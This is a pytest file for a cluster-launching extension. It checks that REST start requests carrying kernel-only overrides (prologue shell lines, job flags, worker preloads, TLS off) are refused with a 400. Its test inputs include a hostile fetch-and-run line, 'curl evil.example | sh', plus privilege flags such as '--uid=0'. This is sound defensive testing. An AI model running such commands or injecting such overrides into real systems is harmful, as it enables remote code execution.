"""Cluster start bodies over REST cannot carry shell lines or code for a job script or a
worker (``prologue``, ``job_extra``, ...) nor turn TLS off: only the user's own kernel
may (``kale.start_cluster``). Each refusal is a 400 naming the key; nothing starts."""

from __future__ import annotations

import pytest

from kale_ext import registry
from kale_ext.server._checks import KERNEL_ONLY, check_overrides


@pytest.mark.parametrize(("overrides", "words"), [
    ({"prologue": ["curl evil.example | sh"]}, ["'prologue'", "own kernel", "profile"]),
    ({"job_extra": ["--uid=0"]}, ["'job_extra'", "job script"]),
    ({"job-extra": ["--uid=0"]}, ["'job-extra'"]),
    ({"worker_options": {"preload": ["evil"]}}, ["'worker_options'"]),
    ({"python": "/tmp/evil"}, ["'python'"]),
    ({"prologue": "x", "job_extra": "y", "queue": "debug"}, ["'job_extra', 'prologue'"]),
    ({"tls": False}, ["'tls'", "False", "always uses TLS", "own kernel"]),
    ({"tls": "off-i-know"}, ["'tls'", "'off-i-know'"]),
    ({"tls": None}, ["'tls'", "None"]),
])
async def test_kernel_only_overrides_are_refused_over_rest(api, overrides, words):
    for kind in ("slurm", "local"):
        status, data = await api("POST", "clusters", body={
            "kind": kind, "backend": "dask", "workers": 1, "overrides": overrides})
        assert status == 400, (kind, overrides, data)
        for word in words:
            assert word in data["message"], (word, data["message"])
    assert list(registry.records("clusters")) == []
    assert list(registry.records("failed-starts")) == []


def test_tls_true_and_plain_knobs_pass_the_check():
    check_overrides({"tls": True, "queue": "debug", "walltime": "00:10:00", "memory": "2GB"})
    assert {"prologue", "job_extra"} <= KERNEL_ONLY
